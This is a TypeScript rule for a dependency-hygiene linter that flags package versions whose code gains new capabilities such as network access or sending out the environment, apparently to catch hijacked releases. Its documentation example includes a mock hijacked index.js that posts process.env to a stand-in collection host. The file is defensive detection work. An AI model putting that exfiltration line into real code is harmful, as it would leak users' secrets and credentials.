import type { LockEntry } from '../../read/lockfile/model/lockfile.ts';
import { shownText } from '../../read/lockfile/model/shown-text.ts';
import { effectiveDependencies } from '../../read/manifest/effective-dependencies.ts';
import type { CheckedFile } from '../../read/project/checked-file.ts';
import { declaredEntries } from '../../read/project/locked/direct-entries.ts';
import { lockedEntry } from '../../read/project/locked/locked-dependency.ts';
import type { NewCode } from '../../read/project/new-code.ts';
import type { Project } from '../../read/project/project.ts';
import type { Span } from '../../read/text/span.ts';
import { joinNames, namesAndMore } from '../../read/text/words/words.ts';
import { defineRule, type Found } from '../check/rule.ts';

/**
 * Versions of hijacked packages do what the versions before them did not, whatever hides it. One capability alone is normal:
 * clients use the network, builds start programs. Known false positives: a version with a new feature of that kind, which
 * is information.
 */
interface Suspect {
  readonly name: string;
  readonly version: string;
  /** Null for a package that is new, or whose earlier code is unknown. */
  readonly before: string | null;
  readonly isSuspicious: boolean;
  readonly news: readonly string[];
}

/** Capabilities whose first appearance is worth a look. Files and variables are those of every second version. */
const NOTABLE: ReadonlySet<string> = new Set([
  ...['credentials', 'destruction', 'propagation', 'persistence', 'obfuscation', 'install'],
  ...['network', 'processes', 'dynamic code', 'native code', 'machine profile', 'tampering'],
]);
const LONGEST = 160;

export const suspiciousCode = defineRule<Suspect, Record<string, never>>({
  id: 'suspicious-code',
  category: 'releases',
  preset: 'security',
  severity: 'warning',
  facts: [],
  readsNoUrls: true,
  options: {},
  docs: {
    summary: 'A version that is new in the lockfile and whose code does what the one before did not.',
    why: `Hijacked versions do what the versions before them did not: they send the environment, start hidden programs,
or load code from the network. The rule reads the code of versions that the lockfile of the base lacks, and compares it with the
version of the base. It runs in \`check\`: on installed packages, and with \`--trust\` on tarballs.

- Suspicious by its score, with signs that the earlier version did not have, is a warning.
- A capability that the earlier version had nothing of, such as network or processes, is information.
- A new package, or one whose earlier code is unknown, is reported only if it is suspicious.

No verdict comes from one capability alone. \`dephygiene inspect\` shows all capabilities with their places.`,
    bad: `-- package.json --
{
  "name": "shop",
  "dependencies": {
    "dayflow": "3.2.1"
               ^^^^^^^ suspicious-code: dayflow 3.2.1 has suspicious code: it uses the network when it is loaded (index.js:1) and sends the environment (index.js:1). Read it before you use this version.
  }
}
-- package-lock.json --
{
  "lockfileVersion": 3,
  "packages": {
    "": { "dependencies": { "dayflow": "3.2.1" } },
    "node_modules/dayflow": {
      "version": "3.2.1",
      "resolved": "https://registry.public.example.test/dayflow/-/dayflow-3.2.1.tgz"
    }
  }
}
-- node_modules/dayflow/package.json --
{ "name": "dayflow", "version": "3.2.1" }
-- node_modules/dayflow/index.js --
fetch('https://collect.example.test', { method: 'POST', body: JSON.stringify(process.env) });
`,
    good: `-- package.json --
{
  "name": "shop",
  "dependencies": {
    "dayflow": "3.2.0"
  }
}
`,
    base: '{ "lockfileVersion": 3, "packages": {} }',
  },
  check: {
    *manifest(manifest, { project }) {
      if (project.newCode.size === 0) return;
      for (const dependency of effectiveDependencies(manifest)) {
        const entry = lockedEntry(project, manifest.uri, dependency);
        const suspect = entry && suspectOf(entry, project);
        if (suspect !== undefined) yield finding(suspect, dependency.valueSpan);
      }
    },
    lockfile: check,
  },
  message({ data: { name, version, before, isSuspicious, news } }) {
    const listed = listNews(news.map((one) => shownText(one, LONGEST)));
    if (isSuspicious) {
      const than = before === null ? '' : `, unlike ${before}`;
      return `${name} ${version} has suspicious code: it ${listed}${than}. Read it before you use this version.`;
    }
    return `${name} ${version} can do more than ${before ?? 'before'}: ${listed}. Read the changes before you use this version.`;
  },
});

const MOST_LISTED = 3;

function listNews(news: readonly string[]): string {
  return news.length > MOST_LISTED ? namesAndMore(news, MOST_LISTED) : joinNames(news);
}

function* check(file: CheckedFile, { project }: { readonly project: Project }): Generator<Found<Suspect>> {
  const { lockfile, newCode } = project;
  if (lockfile === undefined || file !== lockfile || newCode.size === 0) return;
  const declared = declaredEntries(lockfile);
  for (const entry of lockfile.entries) {
    if (declared.has(entry)) continue;
    const suspect = suspectOf(entry, project);
    if (suspect !== undefined) yield finding(suspect, entry.version?.span ?? entry.keySpan);
  }
}

function suspectOf({ name, version, source }: LockEntry, { newCode }: Project): Suspect | undefined {
  const code = source === 'registry' ? newCode.get(`${name}@${version?.value ?? ''}`) : undefined;
  if (code === undefined || version === undefined) return undefined;
  const news = newsOf(code);
  if (news.length === 0) return undefined;
  return { name, version: version.value, before: code.before ?? null, isSuspicious: code.isSuspicious, news };
}

function newsOf({ before, signs, capabilities, kinds, isSuspicious }: NewCode): readonly string[] {
  if (isSuspicious) return signs;
  if (before === undefined) return [];
  const notable = kinds.filter((kind) => NOTABLE.has(kind));
  return capabilities.filter((one) => notable.some((kind) => one.startsWith(`${kind} (`)));
}

function finding(suspect: Suspect, span: Span): Found<Suspect> {
  return {
    span,
    data: suspect,
    severity: suspect.isSuspicious ? 'warning' : 'information',
    package: suspect.name,
    version: suspect.version,
  };
}
